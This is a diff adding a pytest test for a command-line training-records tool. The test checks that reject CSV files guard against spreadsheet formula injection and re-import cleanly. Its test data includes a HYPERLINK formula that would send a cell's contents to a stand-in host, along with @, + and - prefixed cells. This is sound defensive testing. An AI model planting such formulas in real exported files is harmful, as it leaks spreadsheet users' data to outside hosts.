@@ -1288,3 +1288,31 @@ def test_a_program_or_position_typed_with_terminal_escapes_is_named_escaped(dept
     assert "\x1b" not in r.stderr and "\u202e" not in r.stderr, r
     assert "'\\x1b[2" in r.stderr, r
     assert snapshot() == before
+
+
+@pytest.mark.parametrize("args", [["record", "import"], ["member", "import", "--csv"]], ids=["record", "member"])
+def test_a_reject_file_guards_formulas_and_imports_back_as_it_was(dept, tmp_path, snapshot, args):
+    """A reject file is made to be opened in Excel and fixed, and it wrote the rows as they
+    were: a member cell typed into a sign-in form as =HYPERLINK(...) (or @SUM, +, -) ran
+    as a formula there. Its cells now take the one rule of every CSV trainctl writes (an
+    apostrophe before a formula); imported again, the rows read as they were given."""
+    formula = '=HYPERLINK("http://x.example/?"&B2,"Open")'
+    if args[0] == "record":
+        body = f'email,course,date,hours\nann@fd.org,Drill,2026-03-04,1\n"{formula.replace(chr(34), 2 * chr(34))}",Drill,2026-03-04,1\n@SUM(A1),-Drill,2026-03-04,1\n'
+    else:
+        body = f'name,email\nGood One,good@fd.org\n"{formula.replace(chr(34), 2 * chr(34))}",+x\n-Bad,@bad\n'
+    sheet = tmp_path / "sheet.csv"
+    sheet.write_text(body)
+    r = dept("--as-of", "2026-12-31", *args, str(sheet), "--skip-invalid", ok=False)
+    assert r.exit_code == 65, r
+    import csv as csv_module
+
+    rejects = tmp_path / "sheet.rejects.csv"
+    cells = [c for row in csv_module.reader(rejects.read_text("utf-8-sig").splitlines()[1:]) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
+    assert "'" + formula in cells, cells
+    before = snapshot()
+    again = dept("--as-of", "2026-12-31", *args, str(rejects), ok=False)  # the same two rows, refused again
+    assert again.exit_code == 65 and "2 of 2 rows" in again.stderr, again
+    assert not any(f"\"'{c}" in again.stderr for c in "=+-@"), again  # read as given, not "'=..."
+    assert snapshot() == before
